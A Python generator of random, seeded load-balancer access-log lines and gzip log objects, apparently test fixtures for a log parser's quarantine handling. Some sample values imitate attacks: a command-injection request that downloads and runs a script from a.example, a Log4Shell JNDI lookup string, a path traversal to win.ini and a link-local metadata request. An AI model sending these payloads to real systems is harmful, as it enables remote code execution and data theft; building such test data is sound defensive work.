"""Random log lines and log objects from a seed, by the published grammar of the access log.

A *sound* line follows the tokenizer's rules and must become a row. An *odd* one is damaged or far
from any grammar: it may become a row or go to quarantine, but it must not vanish.
"""
from __future__ import annotations

import random
from dataclasses import dataclass

import tree

AGES = [12, 13, 16, 17, 18, 20, 21, 23, 24, 25, 27, 29, 30, 33, 34, 36]
QUOTED = {13, 14, 18, 19, 20, 23, 24, 25, 26, 27, 28, 29, 31, 32, 33, 35, 36}
REQUESTS = [
    "- http://shop.example:80- -", "- http://shop.example:8080- ", "- http://shop.example:80-/ ",
    "- - - ", "GET http://shop.example:80/hello", "GET http://shop.example:80/ HTTP/1.0 ",
    "GET http://shop.example:80/?a=b#loc badver", "GET http://shop.example:80 HTTP/1.1",
    "SSTP_DUPLEX_POST https://10.1.1.1:443/sra_{0A1B-2C}/ HTTP/1.1", "-", "",
    "--location https://shop.example/ HTTP/2.0", "GET http://[::ffff:a9fe:a9fe]:443/ HTTP/1.1",
    "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/c;sh+/tmp/c HTTP/1.1",
    "GET https://_test.example:443/%%32%65%%32%65/ HTTP/2.0",
    "GET http://shop.example:80/a  b HTTP/1.1", " GET http://shop.example:80/ HTTP/1.1",
]
AGENTS = [
    "curl/8.5.0", "-", "", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101",
    r"\x22Mozilla/5.0 (quoted)\x22", r"\x00000022Agent\x00000022", r"\x5C(Java/21.0.4\x5C)",
    r"\xEC\x97\x90\xf0\x9f\x98\x80", "${jndi:ldap://a.example/x}", " leading", "trailing ", "  ",
]


class Grammar:
    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed)

    def one_in(self, count: int) -> bool:
        return self.random.randrange(count) == 0

    def text(self, longest: int) -> str:
        letters = "abcXYZ019-_./:;,=&?%+'(){}[]<>|~^`!@#$* "
        pieces = [self.random.choice(letters) for _ in range(self.random.randint(0, longest))]
        if pieces and self.one_in(6):
            pieces.insert(self.random.randrange(len(pieces)), r"\x22")
        return "".join(pieces)

    def time(self) -> str:
        r = self.random
        return (f"2026-11-20T{r.randint(1, 3):02}:{r.randint(0, 59):02}:{r.randint(0, 59):02}"
                f".{r.randint(0, 999_999):06}Z")

    def endpoint(self) -> str:
        r = self.random
        return r.choice([
            f"192.0.2.{r.randint(0, 255)}:{r.randint(1, 65535)}",
            f"2001:db8:4538:1:bcf4:5264:e01c:{r.randint(0, 65535):x}:{r.randint(1, 65535)}",
            f"[2001:db8::{r.randint(0, 65535):x}]:443", "::1:50718"])

    def seconds(self) -> str:
        r = self.random
        return r.choice([f"{r.randint(0, 59)}.{r.randint(0, 999):03}"] * 6 + [
            "-1", "-1", "0.000", "-1.0", "0.000073", "1.5414835421835185", "60.001", "10"])

    def request(self) -> str:
        if self.one_in(5):
            return self.random.choice(REQUESTS)
        verb = self.random.choice(["GET", "POST", "HEAD", "PROPFIND"])
        proto = self.random.choice(["HTTP/1.1", "HTTP/2.0", "HTTP/1.0"])
        return f"{verb} https://shop.example:443/{self.text(40)} {proto}"

    def values(self) -> list[str]:
        r = self.random
        group = r.choice(["orders", "web", "Auth-2"])
        arn = f"arn:aws:elasticloadbalancing:us-east-1:{tree.ACCOUNT}:targetgroup/{group}/01234567"
        target = r.choice(["-", "10.0.1.5:8080", "10.0.1.6:8080", "2001:db8::5:80", "[::1]:443"])
        status = r.choice(["200", "200", "404", "502", "503", "460", "-", "000"])
        return [
            r.choice(["http", "https", "h2", "grpcs", "ws", "wss"]), self.time(),
            "app/orders/0123456789abcdef", self.endpoint(), target,
            self.seconds(), self.seconds(), self.seconds(), status, r.choice(["-", "200", "502"]),
            str(r.randint(0, 2**40)), r.choice(["0", "-", str(r.randint(0, 10**6))]),
            self.request(), r.choice(AGENTS + [self.text(80)] * 8),
            r.choice(["-", "ECDHE-RSA-AES128-GCM-SHA256", "lower-case"]),
            r.choice(["-", "TLSv1.3"]),
            r.choice(["-", arn, arn]), r.choice(["-", f"Self=1-a;Root=1-{r.getrandbits(96):024x}"]),
            r.choice(["-", "shop.example", " leading.example", "*", "12.1.1.1:443", ""]),
            r.choice(["-", "session-reused", "arn:aws:acm:us-east-1:1:certificate/a-b"]),
            r.choice(["-", "-1", "0", "5", "50000"]), self.time(),
            r.choice(["forward", "waf,forward", "-", "", "redirect", "a-new-action"]),
            r.choice(["-", "https://shop.example:443/a b", r"..\x5Cwindows\x5Cwin.ini"]),
            r.choice(["-", "LambdaUnhandled", "TargetNotFound"]), target, r.choice(["-", "200"]),
            r.choice(["-", "Ambiguous"]), r.choice(["-", "SpaceInUri"]),
            r.choice(["-", f"TID_{r.getrandbits(128):032x}"]), r.choice(["-", "host.example"]),
            r.choice(["-", "/a b?c=d"]), r.choice(["-", "TransformSuccess"]),
            r.choice(["-", "192.0.2.9", "2001:db8::9"]), r.choice(["-", "0x7"]),
            r.choice(["-", "0x2"]),
        ]

    def tokens(self) -> list[str]:
        count = self.random.choice(AGES) if self.one_in(2) else self.random.randint(12, 40)
        values = self.values()
        values += [self.random.choice(["-", "new", "a b", ""]) for _ in range(count - len(values))]
        return [self.token(i + 1, value) for i, value in enumerate(values[:count])]

    def token(self, position: int, value: str) -> str:
        must = value == "" or " " in value
        wanted = position in QUOTED
        if position > 2 and self.one_in(25):
            wanted = not wanted
        return f'"{value}"' if must or wanted else value

    def sound(self) -> bytes:
        line = " ".join(self.tokens())
        return (line + " " if self.one_in(50) else line).encode()

    def odd(self) -> bytes:
        """A sound line with a wound, or no line at all; never blank, never two lines."""
        r = self.random
        line = self.sound()
        at = r.randrange(1, len(line))
        noise = bytes(b for b in r.randbytes(r.randint(1, 400)) if b not in b"\r\n")
        wounded = r.choice([
            line[:at], line[:at] + line[at + 1:], line[:at] + b'"' + line[at:],
            line[:at] + b"\\" + line[at:], line[:at] + bytes([r.randint(128, 255)]) + line[at:],
            line[:at] + b"\0" + line[at:], line[:at] + b"\r" + line[at:], b"tls " + line,
            line[:at] + b"  " + line[at:], line[:at] + b'\\"' + line[at:], b" ".join(
                line.split(b" ")[:11]), noise, b"- " * r.randint(1, 50), b"\xef\xbb\xbf" + line,
            b"Enable AccessLog for ELB: app/orders/0123456789abcdef", line + b" " + line,
        ]).rstrip(b"\r")
        return wounded or b"?"


@dataclass
class LogObject:
    name: str
    content: bytes
    #: (line number from 1, the line, whether it is sound)
    lines: list[tuple[int, bytes, bool]]


def log_object(grammar: Grammar, number: int, count: int) -> LogObject:
    r = grammar.random
    end = r.choice([b"\n", b"\n", b"\n", b"\r\n"])
    text, lines, at = bytearray(), [], 0
    for _ in range(count):
        while grammar.one_in(20):
            text += end
            at += 1
        sound = not grammar.one_in(10)
        one = grammar.sound() if sound else grammar.odd()
        at += 1
        lines.append((at, one, sound))
        text += one + end
    if text and grammar.one_in(4):
        del text[-len(end):]
    ending = r.choice([".log.gz"] * 4 + [".log"])
    content = bytes(text) if ending == ".log" else members(grammar, bytes(text))
    return LogObject(tree.key(number, ending), content, lines)


def members(grammar: Grammar, text: bytes) -> bytes:
    """One gzip member or several, cut anywhere, some of them empty; no bytes at all if no text."""
    if not text and grammar.one_in(2):
        return b""
    cuts = sorted(grammar.random.randint(0, len(text)) for _ in range(
        grammar.random.choice([0, 0, 0, 1, 2, 5])))
    starts, ends = [0, *cuts], [*cuts, len(text)]
    return b"".join(tree.gzipped(text[a:b]) for a, b in zip(starts, ends))
